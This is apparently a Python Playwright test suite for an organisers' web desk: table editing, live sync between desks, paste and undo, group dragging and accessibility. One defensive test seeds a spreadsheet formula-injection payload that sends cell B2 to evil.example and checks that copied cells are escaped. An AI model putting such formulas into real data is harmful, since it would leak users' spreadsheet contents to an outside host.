"""The desk in a real browser, at a laptop: tables by keyboard, live beside another desk, a paste with its undo."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, ViewportSize, expect

from bot.database.engine import Transaction
from bot.people import participant_store
from bot.platforms.web import desk_routes
from handlers.attendance.store.marks import mark_attendance
from handlers.groups.service.membership import publish_round
from handlers.groups.store.members import members_of
from tests.drivers.web import WebHarness, open_web
from tests.groups.builders import found_round, group
from tests.participants import number
from tests.platforms.web.conftest import watching
from tests.platforms.web.test_comfort import AXE, FINDINGS, SCHEMES
from tests.programme.builders import with_programme
from tests.stored_rows import stored_rows
from tests.world import START, open_world

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

WIDE = ViewportSize(width=1280, height=800)


@pytest_asyncio.fixture(loop_scope="session")
async def harness(sqlite_url: str) -> AsyncIterator[WebHarness]:
    async with open_world(sqlite_url, with_programme()) as world, open_web(world) as harness:
        for name in ("Ana", "Bo", "Cy"):
            await world.invite(name, family_name=f"{name}mère", organisation=f"Coop {name}")
        yield harness


@asynccontextmanager
async def desk(harness: WebHarness, browser: Browser, name: str, grid: str = "people") -> AsyncIterator[Page]:
    """The desk of an organiser who has just opened their page."""
    context = await browser.new_context(viewport=WIDE, locale="en-GB", reduced_motion="reduce")
    page = await context.new_page()
    async with watching(page):
        door = await page.request.post(f"{harness.root}/p/{await harness.page_link(name)}", max_redirects=0)
        person = await number(harness.world, name)
        await harness.world.change(participant_store.set_organises, person, True)
        await page.goto(f"{harness.root}{door.headers['location'].partition('#')[0]}desk?grid={grid}")
        await page.wait_for_selector("body[data-ready]")
        yield page
    await context.close()


async def clean(page: Page) -> None:
    """Fail for what axe finds, in the light and in the dark."""
    await page.evaluate(AXE)
    for scheme, rules in SCHEMES:
        await page.emulate_media(color_scheme=scheme)
        assert await page.evaluate(FINDINGS, rules.split()) == []


async def keys(page: Page, *names: str) -> None:
    for name in names:
        await page.keyboard.press(name)


async def paste(page: Page, text: str) -> None:
    """Paste a text where the keyboard is, as Ctrl+V does."""
    await page.evaluate(
        """(text) => {
            const clipboardData = new DataTransfer();
            clipboardData.setData("text/plain", text);
            const how = { clipboardData, bubbles: true, cancelable: true };
            document.activeElement.dispatchEvent(new ClipboardEvent("paste", how));
        }""",
        text,
    )


async def copy(page: Page) -> str:
    """Copy the selected cells, as Ctrl+C does; what is then in the clipboard."""
    copied: str = await page.evaluate(
        """() => {
            const clipboardData = new DataTransfer();
            const how = { clipboardData, bubbles: true, cancelable: true };
            document.activeElement.dispatchEvent(new ClipboardEvent("copy", how));
            return clipboardData.getData("text/plain");
        }"""
    )
    return copied


async def test_a_cell_is_edited_by_keyboard_and_seen_on_another_desk(harness: WebHarness, browser: Browser) -> None:
    async with desk(harness, browser, "Inès") as mine, desk(harness, browser, "Max") as other:
        await mine.get_by_role("grid").focus()
        await keys(mine, "Control+Home", *["ArrowRight"] * 5, "Enter")
        await expect(mine.get_by_role("textbox", name="organisation")).to_have_value("Coop Ana")
        await mine.keyboard.type("School")
        await keys(mine, "Enter")
        await expect(other.get_by_role("gridcell", name="School", exact=True)).to_be_visible()
        await expect(mine.locator(".unsaved")).to_have_count(0)
        # The other had begun to edit the cell: what they type is kept, and they are told who was faster.
        await other.get_by_role("grid").focus()
        await keys(other, "Control+Home", *["ArrowRight"] * 5, "ArrowDown", "Enter")
        await keys(mine, "Enter")
        await mine.keyboard.type("University")
        await keys(mine, "Enter")
        await expect(mine.locator(".unsaved")).to_have_count(0)
        await other.keyboard.type("College")
        await keys(other, "Enter")
        await expect(other.get_by_role("alert")).to_contain_text("wrote “University” at ")
        await expect(other.get_by_role("textbox", name="organisation")).to_have_value("College")
        await keys(other, "Enter")
        await expect(mine.get_by_role("gridcell", name="College", exact=True)).to_be_visible()
        await keys(other, "Control+z")
        await expect(mine.get_by_role("gridcell", name="University", exact=True)).to_be_visible()


async def test_a_mouse_clicks_types_double_clicks_and_selects_in_the_table(
    harness: WebHarness, browser: Browser
) -> None:
    async with desk(harness, browser, "Inès") as page:
        cells = page.locator("[role=gridcell][data-column='5']")
        await expect(cells).to_have_text(["Coop Ana", "Coop Bo", "Coop Cy", ""])
        clicked = await page.evaluate_handle(
            """() => {
                const clicked = [];
                const note = ({ target }) => target.role === "gridcell" && clicked.push(target.textContent);
                document.getElementById("grid").addEventListener("click", note);
                return clicked;
            }"""
        )
        for name in ("Coop Ana", "Coop Bo"):
            await page.get_by_role("gridcell", name=name).click()
            await expect(page.locator("[role=gridcell].active")).to_have_text([name])
        await page.keyboard.type("School")
        await keys(page, "Enter")
        await expect(cells).to_have_text(["Coop Ana", "School", "Coop Cy", ""])
        await page.get_by_role("gridcell", name="Coop Cy").dblclick()
        await expect(page.get_by_role("textbox", name="organisation")).to_have_value("Coop Cy")
        await page.keyboard.type("College")
        await page.get_by_role("gridcell", name="Coop Ana").click()
        await expect(cells).to_have_text(["Coop Ana", "School", "College", ""])
        assert await clicked.json_value() == ["Coop Ana", "Coop Bo", "Coop Cy", "Coop Cy", "Coop Ana"]
        await cells.nth(2).hover()
        await page.mouse.down()
        await cells.nth(3).hover()
        await page.mouse.up()
        await expect(page.locator("[aria-selected=true]")).to_have_text(["College", ""])
        assert await page.evaluate("getSelection().toString()") == ""
        await page.keyboard.press("Delete")
        await expect(cells).to_have_text(["Coop Ana", "School", "", ""])
        # Who sorts by a click goes on by keyboard from that heading.
        await page.get_by_role("columnheader", name="given name").click()
        await keys(page, "ArrowRight", "Enter")
        await expect(page.get_by_role("columnheader", name="family name")).to_have_attribute("aria-sort", "ascending")
        # A cell that another changes under the pointer takes the click all the same.
        await cells.nth(1).hover()
        await page.mouse.down()
        async with desk(harness, browser, "Max") as other:
            await other.get_by_role("grid").focus()
            await keys(other, "Control+Home", "ArrowDown", *["ArrowRight"] * 5, "Enter")
            await other.keyboard.type("Choir")
            await keys(other, "Enter")
            await expect(cells.filter(has_text="Choir")).to_be_visible()
            await page.mouse.up()
        assert (await clicked.json_value())[5:] == ["Choir"]


async def test_sorting_and_filtering_leave_the_edited_cell_where_it_is(
    harness: WebHarness, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    # What is saved is shown and sorted as it reads now, even if the stream never tells it.
    monkeypatch.setattr(desk_routes, "_BETWEEN_LOOKS", 60.0)
    async with desk(harness, browser, "Inès") as page:
        await page.get_by_role("columnheader", name="given name").click()
        await page.get_by_role("columnheader", name="given name").click()
        await expect(page.get_by_role("columnheader", name="given name")).to_have_attribute("aria-sort", "descending")
        await keys(page, "Control+Home", "ArrowDown", "ArrowDown", "Enter")
        await page.keyboard.type("Zed")
        await keys(page, "Enter")
        names = page.locator("[role=gridcell][data-column='0']")
        await expect(names).to_have_text(["Inès", "Cy", "Zed", "Ana"])
        await page.get_by_role("searchbox").fill("mere zed")
        await expect(names).to_have_text(["Zed"])
        await expect(page.locator("#count")).to_have_text("1 of 4")
        await page.get_by_role("searchbox").fill("")
        await expect(names).to_have_text(["Zed", "Inès", "Cy", "Ana"])


async def test_a_paste_is_saved_whole_or_told_what_has_no_place(harness: WebHarness, browser: Browser) -> None:
    async with desk(harness, browser, "Inès") as page:
        await page.get_by_role("grid").focus()
        await keys(page, "Control+Home", "ArrowRight")
        await paste(page, "One\tFrance\nTwo\tQuébec\nThree\tSuisse\nFour\tMali\nFive\tMali")
        await expect(page.get_by_role("alert")).to_have_text(
            "2 of these cells have no place here, so nothing was pasted."
        )
        await paste(page, 'One\tFrance\nTwo\tQuébec\n"Three ""3"""\tSuisse\nFour\tMali\n')
        family = page.locator("[role=gridcell][data-column='1']")
        await expect(family).to_have_text(["One", "Two", 'Three "3"', "Four"])
        await expect(page.locator("[role=gridcell][data-column='2']")).to_have_text(
            ["France", "Quebec", "Switzerland", "Mali"]
        )
        await page.get_by_role("button", name="Undo").click()
        await expect(family).to_have_text(["Anamère", "Bomère", "Cymère", ""])
        await page.get_by_role("grid").focus()
        await keys(page, "Control+Home", "ArrowRight", *["Shift+ArrowDown"] * 3)
        await paste(page, "Same")
        await expect(family).to_have_text(["Same"] * 4)


async def test_what_people_wrote_is_no_formula_in_a_spreadsheet(harness: WebHarness, browser: Browser) -> None:
    """Where registration is open, a stranger writes what stands at the desk."""
    formula, unseen = '=IMPORTXML("https://evil.example/?"&B2;"x")', "\u200b=1+1"
    await harness.world.invite("Mal", family_name=unseen, organisation=formula)
    async with desk(harness, browser, "Inès") as page:
        await page.get_by_role("grid").focus()
        await keys(page, "Control+Home", *["ArrowRight"] * 5, *["ArrowDown"] * 3)
        await expect(page.locator("[role=gridcell][aria-selected=true]")).to_have_text([formula])
        assert await copy(page) == '"\'=IMPORTXML(""https://evil.example/?""&B2;""x"")"'
        await keys(page, "ArrowUp")
        assert await copy(page) == "Coop Cy"
        await paste(page, "'=1+1")
        await expect(page.locator("[role=gridcell][aria-selected=true]")).to_have_text(["=1+1"])
        await keys(page, "ArrowDown", *["ArrowLeft"] * 4)
        assert await copy(page) == f"'{unseen}"


async def test_a_thousand_cells_have_no_place_in_nine_hundred_and_these_go_back_at_once(
    harness: WebHarness, browser: Browser
) -> None:
    await harness.world.change(many_people, 896)
    async with desk(harness, browser, "Inès") as page:
        await page.get_by_role("grid").focus()
        await keys(page, "Control+Home", *["ArrowRight"] * 5)
        await paste(page, "\n".join(f"School {place}" for place in range(1000)))
        await expect(page.get_by_role("alert")).to_have_text(
            "100 of these cells have no place here, so nothing was pasted."
        )
        await expect(page.get_by_role("button", name="Undo")).to_be_disabled()
        before = await organisations(harness)
        await paste(page, "\n".join(f"School {place}" for place in range(900)))
        await expect(page.get_by_role("button", name="Undo")).to_be_enabled()
        assert set(await organisations(harness)) == {f"School {place}" for place in range(900)}
        await page.get_by_role("button", name="Undo").click()
        await expect(page.get_by_role("gridcell", name="Coop Ana")).to_be_visible()
        assert await organisations(harness) == before


async def many_people(tx: Transaction, count: int) -> None:
    """Add so many people to the list."""
    for place in range(count):
        await participant_store.add(tx, ref=f"L-{place}", given_name=f"P{place}", family_name="", now=START)


async def organisations(harness: WebHarness) -> list[str]:
    """What is stored in that column of each row, in order."""
    return [row["organisation"] for row in (await stored_rows(harness.world.store, "participants"))["participants"]]


async def test_a_column_sorted_while_it_is_edited_keeps_what_was_typed_in_its_row(
    harness: WebHarness, browser: Browser
) -> None:
    async with desk(harness, browser, "Inès") as page:
        await page.get_by_role("grid").focus()
        await keys(page, "Control+Home", "Enter")
        await page.keyboard.type("Zed")
        await page.get_by_role("columnheader", name="given name").click()
        names = page.locator("[role=gridcell][data-column='0']")
        await expect(names).to_have_text(["Bo", "Cy", "Inès", "Zed"])
        await expect(page.locator("[role=gridcell].active")).to_have_count(0)
        await expect(page.locator(".unsaved")).to_have_count(0)
        assert await number(harness.world, "Zed") == await number(harness.world, "Ana")
        # Another's edit of that column moves no row below somebody who is about to edit one.
        async with desk(harness, browser, "Max") as other:
            await expect(names).to_have_text(["Bo", "Cy", "Inès", "Zed", "Max"])
            await other.get_by_role("grid").focus()
            await keys(other, "Control+Home", "ArrowDown", "Enter")
            await other.keyboard.type("Zoé")
            await keys(other, "Enter")
            await expect(names).to_have_text(["Zoé", "Cy", "Inès", "Zed", "Max"])


async def test_two_tabs_of_one_organiser_tell_each_other(harness: WebHarness, browser: Browser) -> None:
    async with desk(harness, browser, "Inès") as page:
        tab = await page.context.new_page()
        async with watching(tab):
            await tab.goto(page.url)
            await tab.wait_for_selector("body[data-ready]")
            await tab.get_by_role("grid").focus()
            await keys(tab, "Control+Home", *["ArrowRight"] * 5, "Enter")
            await page.get_by_role("grid").focus()
            await keys(page, "Control+Home", *["ArrowRight"] * 5, "Enter")
            await page.keyboard.type("School")
            await keys(page, "Enter")
            await expect(page.locator(".unsaved")).to_have_count(0)
            await tab.keyboard.type("College")
            await keys(tab, "Enter")
            await expect(tab.get_by_role("alert")).to_contain_text("Inès wrote “School” at ")
            await keys(tab, "Escape")
            await expect(tab.get_by_role("gridcell", name="School", exact=True)).to_be_visible()


async def test_a_group_published_while_somebody_is_dragged_is_applied_only_as_it_is_told_then(
    harness: WebHarness, browser: Browser
) -> None:
    for place, name in enumerate(("Dé", "Eva"), start=200):
        await harness.world.join(name, str(place))
    first = await group(harness.world, ("Dé", "Eva"))
    await group(harness.world, ("Cy",), number_=2)
    async with desk(harness, browser, "Inès", "groups") as page:
        await page.get_by_role("button", name="Group, ").click()
        await page.get_by_role("button", name="Eva").focus()
        await keys(page, "Enter", "ArrowRight", "Enter")
        waits = page.get_by_role("region", name="What this would change")
        await expect(waits).to_contain_text("Nobody is told: these groups are not published yet.")
        await harness.world.change(publish_round, await found_round(harness.world), harness.world.clock.now())
        await waits.get_by_role("button", name="Apply").click()
        await expect(waits).to_contain_text("What this would change is not what you were shown.")
        await expect(waits).to_contain_text("2 people will be told.")
        assert len(await harness.world.read(members_of, first)) == 2
        await waits.get_by_role("button", name="Apply").click()
        await expect(waits).to_be_hidden()
        assert [member.given_name for member in await harness.world.read(members_of, first)] == ["Dé"]


async def test_of_two_who_drag_one_person_the_later_is_told_and_drags_again(
    harness: WebHarness, browser: Browser
) -> None:
    first = await group(harness.world, ("Ana",))
    second, third = [await group(harness.world, (name,), number_=place) for place, name in ((2, "Bo"), (3, "Cy"))]
    async with desk(harness, browser, "Inès", "groups") as page, desk(harness, browser, "Max", "groups") as other:
        for each, target in ((page, "Education 2 (1)"), (other, "Education 3 (1)")):
            await each.get_by_role("button", name="Group, ").click()
            await each.get_by_role("button", name="Ana Anamère").drag_to(each.get_by_role("group", name=target))
            await expect(each.get_by_role("button", name="Apply")).to_be_enabled()
        await page.get_by_role("button", name="Apply").click()
        await expect(page.get_by_role("region", name="What this would change")).to_be_hidden()
        waits = other.get_by_role("region", name="What this would change")
        await expect(waits).to_contain_text("Inès wrote “Education 2” at ")
        assert [len(await harness.world.read(members_of, each)) for each in (first, second, third)] == [0, 2, 1]
        await expect(other.get_by_role("button", name="Apply")).to_be_enabled()
        await other.get_by_role("button", name="Apply").click()
        await expect(waits).to_be_hidden()
        assert [len(await harness.world.read(members_of, each)) for each in (first, second, third)] == [0, 1, 2]


async def test_a_person_is_dragged_to_another_group_by_keyboard_or_mouse_and_it_is_applied_once(
    harness: WebHarness, browser: Browser
) -> None:
    first = await group(harness.world, ("Ana", "Bo"))
    second = await group(harness.world, ("Cy",), number_=2)
    async with desk(harness, browser, "Inès", "groups") as page, desk(harness, browser, "Max", "groups") as other:
        for each in (page, other):
            await each.get_by_role("button", name="Group, ").click()
        await page.get_by_role("button", name="Ana Anamère").focus()
        await keys(page, "Enter", "ArrowRight", "Enter")
        waits = page.get_by_role("region", name="What this would change")
        await expect(waits).to_contain_text("Group 2 would have 2 people")
        assert len(await harness.world.read(members_of, first)) == 2
        await waits.get_by_role("button", name="Apply").press("Enter")
        await expect(other.get_by_role("group", name="Education 2 (2)")).to_contain_text("Ana Anamère")
        await expect(waits).to_be_hidden()
        await other.get_by_role("button", name="Bo Bomère").drag_to(other.get_by_role("group", name="Education 2 (2)"))
        await other.get_by_role("button", name="Apply").click()
        await expect(page.get_by_role("group", name="Education 2 (3)")).to_contain_text("Bo Bomère")
        assert len(await harness.world.read(members_of, second)) == 3
        await other.get_by_role("button", name="Undo").click()
        await expect(page.get_by_role("group", name="Education 1 (1)")).to_contain_text("Bo Bomère")
        await clean(page)


async def test_how_many_are_told_is_in_view_below_all_that_changes_and_another_s_edit_leaves_the_carried_card(
    harness: WebHarness, browser: Browser
) -> None:
    for place, name in enumerate(("Dé", "Eva", "Fay", "Gil"), start=200):
        await harness.world.join(name, str(place))
    await group(harness.world, ("Ana", "Bo"))
    for number_, name in enumerate(("Cy", "Dé", "Eva", "Fay", "Gil"), start=2):
        await group(harness.world, (name,), number_=number_)
    await harness.world.change(publish_round, await found_round(harness.world), harness.world.clock.now())
    async with desk(harness, browser, "Inès", "groups") as page, desk(harness, browser, "Max") as other:
        await page.get_by_role("button", name="Group, ").click()
        waits = page.get_by_role("region", name="What this would change")
        for name in ("Ana Anamère", "Cy Cymère", "Dé", "Eva", "Fay"):
            await page.get_by_role("button", name=name).drag_to(page.get_by_role("group", name="Education 6"))
            await expect(waits.get_by_role("button", name="Apply")).to_be_enabled()
        told = waits.get_by_text("people will be told.")
        await expect(told).to_be_in_viewport(ratio=1)
        inside = (
            "(line) => line.getBoundingClientRect().bottom <= line.parentElement.getBoundingClientRect().bottom + 1"
        )
        assert await waits.locator("#effect").evaluate("(all) => all.scrollHeight > all.clientHeight")
        assert await told.evaluate(inside)
        await page.get_by_role("button", name="Bo Bomère").focus()
        await keys(page, "Enter", "ArrowRight")
        await other.get_by_role("grid").focus()
        await keys(other, "Control+Home", "ArrowDown", "Enter")
        await other.keyboard.type("Bob")
        await keys(other, "Enter")
        await expect(page.get_by_role("button", name="Bob Bomère")).to_be_visible()
        await keys(page, "Enter")
        await expect(page.get_by_role("group", name="Education 2")).to_contain_text("Bob Bomère")


async def test_a_session_is_carried_to_another_hour_by_keyboard(harness: WebHarness, browser: Browser) -> None:
    async with desk(harness, browser, "Inès", "programme") as page:
        await page.get_by_role("button", name="Rooms and hours").click()
        session = page.locator(".card").first
        await session.focus()
        await keys(page, "Control+x", "ArrowDown", "Escape")
        await expect(session).to_be_focused()
        await expect(page.get_by_role("region", name="What this would change")).to_be_hidden()
        await keys(page, "Control+x", "ArrowDown", "Control+v")
        await expect(page.get_by_role("region", name="What this would change")).to_contain_text(
            "Opening: Thursday 10 June, 09:00 → 10:00"
        )
        await clean(page)
        await page.get_by_role("button", name="Discard").click()
        await expect(page.locator(".unsaved")).to_have_count(0)


async def test_axe_finds_nothing_on_the_desk_at_a_laptop(harness: WebHarness, browser: Browser) -> None:
    async with desk(harness, browser, "Inès") as page:
        await page.get_by_role("grid").focus()
        await keys(page, "Control+Home", "Enter")
        await expect(page.get_by_role("textbox", name="given name")).to_be_focused()
        await clean(page)


async def test_people_are_listed_with_their_theme_their_group_and_whether_they_are_there(
    harness: WebHarness, browser: Browser
) -> None:
    await group(harness.world, ("Ana", "Bo"))
    async with desk(harness, browser, "Inès") as page:
        now, ids = harness.world.clock.now(), [await number(harness.world, name) for name in ("Ana", "Cy")]
        day, ines = now.date().isoformat(), await number(harness.world, "Inès")
        await expect(page.get_by_role("columnheader")).to_contain_text(["Theme", "Group", "Here this morning"])
        for person, present in zip(ids, (True, False), strict=True):
            await harness.world.change(mark_attendance, [person], day, present, ines, now)
        ana = page.get_by_role("row").filter(has_text="Anamère")
        await expect(ana).to_contain_text("EnglishEducationEducation 1present")
        await expect(page.get_by_role("row").filter(has_text="Cymère")).to_contain_text("Englishabsent")
        await page.get_by_role("searchbox").fill("absent")
        await expect(page.locator("#count")).to_have_text("1 of 4")
        await page.set_viewport_size({"width": 1000, "height": 700})
        fits = "(each) => each.scrollWidth <= each.clientWidth + 1"
        assert await page.locator("#count").evaluate(fits)


async def test_a_phone_has_no_way_to_the_desk(harness: WebHarness, browser: Browser) -> None:
    async with desk(harness, browser, "Inès") as page:
        await page.get_by_role("link", name="My page").click()
        await expect(page.get_by_role("link", name="The desk")).to_be_visible()
        await page.set_viewport_size({"width": 999, "height": 800})
        await expect(page.get_by_role("link", name="The desk")).to_be_hidden()


async def test_a_german_heading_with_the_longest_of_days_is_read_whole(harness: WebHarness, browser: Browser) -> None:
    await group(harness.world, ["Ana"])
    async with desk(harness, browser, "Inès", "groups") as page:
        ines = await number(harness.world, "Inès")
        await harness.world.store.transact(lambda tx: participant_store.set_locale(tx, ines, "de"))
        await page.reload()
        heading = page.get_by_role("columnheader", name="Gruppe, ")
        assert await heading.evaluate("(cell) => cell.scrollWidth <= cell.clientWidth")
